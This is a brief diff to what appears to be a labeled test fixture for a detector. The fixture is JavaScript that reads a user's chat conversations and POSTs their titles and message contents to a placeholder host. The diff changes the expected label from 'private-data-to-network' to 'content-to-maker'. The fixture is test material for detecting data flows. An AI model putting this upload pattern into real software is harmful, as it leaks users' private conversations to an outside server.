@@ -8,6 +8,6 @@ async function* conversations() {
   }
 }
 (async () => {
-  // expect: private-data-to-network
+  // expect: content-to-maker
   for await (const c of conversations()) await fetch("https://folders.chat-tools.example/index", { method: "POST", body: JSON.stringify({ title: c.title, mapping: c.mapping }) });
 })();
